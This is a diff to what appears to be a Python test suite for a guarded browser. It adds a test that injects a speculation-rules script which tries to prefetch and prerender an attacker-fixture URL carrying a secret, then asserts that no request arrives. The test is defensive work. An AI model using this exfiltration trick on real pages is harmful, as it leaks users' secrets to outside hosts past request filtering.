@@ -164,3 +164,20 @@ async def test_the_run_result_is_redacted_like_the_footer(guarded, hostile, tmp_
     assert result.status == "answered"
     assert SECRET not in result.final_url and "{{PW}}" in result.final_url, result.final_url
     assert SECRET not in result.save(tmp_path / "result.json").read_text()
+
+
+SPECULATION_JS = """([a, v]) => { const s = document.createElement('script'); s.type = 'speculationrules';
+  s.textContent = JSON.stringify({prefetch: [{source: 'list', urls: [a + '/collect?prefetch=' + v]}],
+                                  prerender: [{source: 'list', urls: [a + '/collect?prerender=' + v]}]});
+  document.head.append(s); }"""
+
+
+async def test_speculation_rules_cannot_prefetch_a_secret_elsewhere(guarded, hostile):
+    """The browser process makes speculative prefetches and prerenders itself: no route sees them."""
+    import asyncio
+    await guarded.page.evaluate(SPECULATION_JS, [hostile.attacker.url, SECRET])
+    for _ in range(15):  # a prefetch goes out within milliseconds; give it a moment to show up
+        if hostile.attacker.hits:
+            break
+        await asyncio.sleep(0.1)
+    assert hostile.attacker.hits == []
